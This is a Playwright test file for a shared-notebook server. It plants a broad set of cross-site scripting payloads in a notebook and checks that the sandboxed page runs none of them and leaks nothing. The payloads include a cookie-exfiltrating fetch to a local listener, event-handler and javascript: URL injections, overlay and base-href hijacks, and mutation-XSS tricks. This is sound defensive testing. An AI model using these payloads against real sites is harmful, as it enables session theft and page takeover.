import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test, type Owner } from '../fixtures.ts';
import { shoot } from '../shoot.ts';

/** A server of another origin, where anything that gets out is heard: requests, and connections without one. */
interface Outside extends AsyncDisposable {
  readonly origin: string;
  readonly heard: string[];
}

async function listen(): Promise<Outside> {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(request.url ?? '');
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end();
  });
  server.on('connection', () => heard.push('connection'));
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
  const stop = (): Promise<void> =>
    new Promise(resolve => {
      server.close(() => resolve());
      server.closeAllConnections();
    });
  const { port } = server.address() as AddressInfo;
  return { origin: `http://127.0.0.1:${port}`, heard, [Symbol.asyncDispose]: stop };
}

/** HTML that tries everything; `MARK` is set by whatever runs. */
const markup = (outside: string): string => `
<script>parent.MARK = 1; top.MARK = 1; fetch('${outside}/script?' + document.cookie)</script>
<img src="${outside}/image.png" onerror="top.MARK = 1">
<svg onload="top.MARK = 1"><script>top.MARK = 1</script><image href="${outside}/svg.png"/></svg>
<style>@import url(${outside}/import.css); body::before { content: ''; position: fixed; inset: 0 0 auto; height: 100px; background: url(${outside}/css.png) red; z-index: 2147483647; top: -60px }
html, body, header, nav, .bar { display: none2 } header { display: none !important }</style>
<div style="position: fixed; top: -200px; left: 0; width: 100vw; height: 400px; background: red; z-index: 2147483647">cover</div>
<meta http-equiv="refresh" content="0;url=${outside}/refresh">
<base href="${outside}/">
<link rel="stylesheet" href="${outside}/link.css"><link rel="prefetch" href="${outside}/prefetch"><link rel="preconnect" href="${outside}">
<iframe src="${outside}/frame"></iframe><iframe srcdoc="<script>top.MARK = 1</script><img src=${outside}/srcdoc.png>&lt;link rel=preconnect href=${outside}&gt;"></iframe>
<iframe src="javascript:top.MARK=1"></iframe><iframe src="data:text/html,<script>top.MARK=1</script>"></iframe>
<object data="${outside}/object"></object><embed src="${outside}/embed">
<video src="${outside}/video.mp4" poster="${outside}/poster.png" autoplay></video>
<form id="form" action="${outside}/form"><button id="submit">submit</button></form>
<a id="script-link" href="javascript:top.MARK=1">script link</a>
<a id="top-link" target="_top" href="/login">top link</a>
<a id="data-link" href="data:text/html,<script>opener.MARK=1</script>">data link</a>
<svg><style><p><a id="hidden-top" title=">" target="_top" href="/login">a style to who rendered the page, a link to the browser</a></p></style></svg>
<svg><style><p><a id="hidden-link" title=">" target="_self" href="/login">a style to who rendered the page, a link to the browser</a></p></style></svg>
<input autofocus onfocus="top.MARK = 1"><details open ontoggle="top.MARK = 1"></details>
<script>navigator.serviceWorker.register('/liveshare/sw.js'); window.top.postMessage('x', '*'); localStorage.x = 1; parent.document.title = 'taken'</script>`;

/** A click on whatever it is. */
const click = (node: Element): boolean =>
  node.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));

/** Puts the attack into the owner's notebook, in every mimetype that carries markup. */
async function attack(owner: Owner, outside: string): Promise<void> {
  const data = [
    { 'text/html': markup(outside) },
    {
      'image/svg+xml': `<svg xmlns="http://www.w3.org/2000/svg" onload="top.MARK=1"><script>top.MARK=1</script></svg>`
    },
    { 'application/javascript': `top.MARK = 1; fetch('${outside}/js')` },
    {
      'text/markdown': `<img src=x onerror="top.MARK=1"> [x](javascript:top.MARK=1) ![y](${outside}/md.png)`
    },
    { 'text/latex': `$$\\href{javascript:top.MARK=1}{x}$$` },
    { 'application/vnd.plotly.v1+json': { data: [], layout: { title: '<script>top.MARK=1</script>' } } },
    { 'application/x-unknown': '<script>top.MARK=1</script>', 'text/plain': '<script>top.MARK=1</script>' }
  ];
  const outputs = data.map(each => ({ output_type: 'display_data', data: each, metadata: {} }));
  const cells = [
    {
      cell_type: 'markdown',
      id: 'm',
      metadata: {},
      source: `# Reading\n\n${markup(outside)}\n\n[there](${outside}/there)`
    },
    { cell_type: 'code', id: 'c', metadata: { trusted: true }, source: '1', outputs, execution_count: 1 },
    { cell_type: 'raw', id: 'r', metadata: { raw_mimetype: 'text/html' }, source: markup(outside) }
  ];
  const content = { cells, metadata: {}, nbformat: 4, nbformat_minor: 5 };
  await owner.api('PUT', `/api/contents/${owner.notebook}`, { type: 'notebook', content });
}

test('T44 T45 T47 S10 an attack notebook as a page: nothing runs, nothing gets out, nothing covers the bar', async ({
  owner,
  browser,
  newGuest
}) => {
  await using outside = await listen();
  await attack(owner, outside.origin);
  const { url } = await owner.invite('Reader', { static: true });
  const guest = await newGuest();
  const { page } = guest;
  const dialogs: string[] = [];
  page.on('dialog', dialog => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.goto(url);
  await page.getByRole('button', { name: 'Open notebook' }).click();
  const body = page.frameLocator('iframe');
  await expect(body.getByRole('heading', { name: /Reading/ })).toBeVisible({ timeout: 30_000 });

  const check = async (): Promise<void> => {
    expect(outside.heard).toEqual([]);
    expect(dialogs).toEqual([]);
    for (const frame of page.frames()) {
      const found = await frame.evaluate(() => ({ mark: 'MARK' in window, title: document.title }));
      expect(found.mark, frame.url()).toBe(false);
      expect(found.title).not.toBe('taken');
    }
  };
  await check();
  // The bar is seen, and what is at its place is the bar.
  const bar = page.locator('header');
  await expect(bar).toBeVisible();
  const box = (await bar.boundingBox()) ?? { x: 0, y: 0, width: 0, height: 0 };
  for (const [x, y] of [
    [10, box.y + 5],
    [box.width / 2, box.y + box.height / 2],
    [box.width - 10, box.y + box.height - 3]
  ] as const) {
    expect(
      await page.evaluate(at => document.elementFromPoint(...at)?.closest('header') !== null, [x, y] as [
        number,
        number
      ])
    ).toBe(true);
  }
  await shoot(page, 'page-attack');
  // What a person clicks in it: scripts, forms, this server and the page around stay out of reach.
  const shown = page.frames()[1]?.url() ?? '';
  expect(shown).toMatch(/\/page\/latest\/body$/);
  const asked: string[] = [];
  page.context().on('request', request => asked.push(request.url()));
  for (const id of ['#script-link', '#data-link', '#submit', '#top-link', '#hidden-top']) {
    const all = await body.locator(id).all();
    expect(all.length, id).toBeGreaterThan(0);
    for (const element of all) {
      await element.evaluate(click);
    }
    expect(page.url()).toContain('/page/latest');
    await expect(bar).toBeVisible();
    await check();
    expect(page.frames()[1]?.url(), id).toBe(shown);
  }
  // A link that isn't recognised as one leads the frame nowhere: no address of this server opens in it.
  await body.locator('#hidden-link').first().evaluate(click);
  await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
  expect(asked).toEqual([]);
  expect(page.context().pages()).toHaveLength(1);

  // Opened by itself it is no other.
  await page.goto(new URL('latest/body', page.url()).href);
  await expect(page.getByRole('heading', { name: /Reading/ })).toBeVisible();
  expect(await page.evaluate(() => window.origin)).toBe('null');
  await expect(page.evaluate(() => document.cookie)).rejects.toThrow(/sandboxed/);
  await check();
  // From the browser's cache too (304), and when one comes back.
  await page.reload();
  expect(await page.evaluate(() => window.origin)).toBe('null');
  await page.goBack();
  await check();
  expect(page.context().serviceWorkers()).toEqual([]);

  // The same notebook's markup in a page without our headers: it runs, and it is heard.
  const bare = await (await browser.newContext()).newPage();
  await bare.setContent(markup(outside.origin).replace(/<meta http-equiv[^>]*>/, ''));
  await expect.poll(() => bare.evaluate(() => 'MARK' in window)).toBe(true);
  for (const path of ['/image.png', '/link.css', '/css.png', '/poster.png', '/frame']) {
    await expect.poll(() => outside.heard).toContain(path);
  }
  await bare.context().close();
});

test.describe('links', () => {
  const links =
    '[to the end](#The-end) [elsewhere](OUTSIDE/elsewhere) [a file](other.ipynb) [the server](/login)';
  test.use({ cells: [[{ source: '# Reading', markdown: true }], { scope: 'test' }] });

  test('T44 links of a page: to a heading it stays, elsewhere opens beside it and is told nothing, files beside the notebook are none', async ({
    owner,
    newGuest
  }) => {
    await using outside = await listen();
    const cells = [
      { cell_type: 'markdown', id: 'a', metadata: {}, source: links.replace('OUTSIDE', outside.origin) },
      { cell_type: 'code', id: 'b', metadata: {}, source: 'x\n'.repeat(80), outputs: [], execution_count: 1 },
      { cell_type: 'markdown', id: 'c', metadata: {}, source: '# The end' }
    ];
    const content = { cells, metadata: {}, nbformat: 4, nbformat_minor: 5 };
    await owner.api('PUT', `/api/contents/${owner.notebook}`, { type: 'notebook', content });
    const { url } = await owner.invite('Reader', { static: true });
    const { page } = await newGuest();
    await page.goto(url);
    await page.getByRole('button', { name: 'Open notebook' }).click();
    const body = page.frameLocator('iframe');
    const end = body.getByRole('heading', { name: /The end/ });
    await expect(end).toBeVisible({ timeout: 30_000 });
    await expect(end).not.toBeInViewport();
    await body.getByRole('link', { name: 'to the end' }).click();
    await expect(end).toBeInViewport();
    for (const name of ['a file', 'the server']) {
      await expect(body.getByRole('link', { name })).toHaveCount(0);
      await body.getByText(name).click();
    }
    expect(page.frames()[1]?.url()).toMatch(/\/page\/latest\/body#The-end$/);
    const opens = page.context().waitForEvent('page');
    await body.getByRole('link', { name: 'elsewhere' }).click();
    const beside = await opens;
    await expect.poll(() => outside.heard).toContain('/elsewhere');
    expect(await beside.evaluate(() => [document.referrer, opener])).toEqual(['', null]);
    await beside.close();
    expect(page.context().pages()).toHaveLength(1);
  });
});

test.describe('without JavaScript', () => {
  test('S29 pages of versions: a picker, dark for who likes it, while the live notebook goes on', async ({
    owner,
    browser
  }) => {
    const { share, url } = await owner.invite('Reader', { static: true });
    const save = (message: string) =>
      owner.api('POST', `/liveshare/api/shares/${share}/versions`, { message });
    await save('the beginning');
    await owner.open();
    await owner.cell(1).locator('.cm-content').click();
    await owner.page.keyboard.press('End');
    await owner.page.keyboard.type(' # later');
    await expect(owner.cell(1)).toContainText('# later');
    await save('the end');
    // Coming in takes a script once; reading doesn't.
    const coming = await browser.newContext();
    const door = await coming.newPage();
    await door.goto(url);
    await door.getByRole('button', { name: 'Open notebook' }).click();
    await expect(door.locator('header')).toBeVisible({ timeout: 30_000 });
    const state = await coming.storageState();
    const address = door.url();
    await coming.close();
    const context = await browser.newContext({
      javaScriptEnabled: false,
      colorScheme: 'dark',
      storageState: state
    });
    const page = await context.newPage();
    await page.goto(address);
    const body = page.frameLocator('iframe');
    await expect(body.getByText('# later')).toBeVisible({ timeout: 30_000 });
    await page.locator('summary').click();
    await expect(page.getByRole('link', { name: /Version 2: the end/ })).toContainText('Olga Owner');
    await shoot(page, 'page-dark');
    await page.getByRole('link', { name: /Version 1: the beginning/ }).click();
    await expect(body.getByRole('heading', { name: 'A shared notebook' })).toBeVisible({ timeout: 30_000 });
    await expect(body.getByText('# later')).toHaveCount(0);
    await expect(page.locator('summary')).toHaveText('Version 1: the beginning');
    expect(page.url()).toMatch(/\/page\/1$/);
    await expect(owner.cell(1)).toContainText('# later');
    await context.close();
    const light = await browser.newContext({ colorScheme: 'light', storageState: state });
    const other = await light.newPage();
    await other.goto(address);
    await expect(other.frameLocator('iframe').getByText('# later')).toBeVisible();
    await other.locator('summary').click();
    await shoot(other, 'page-light');
    await light.close();
  });
});
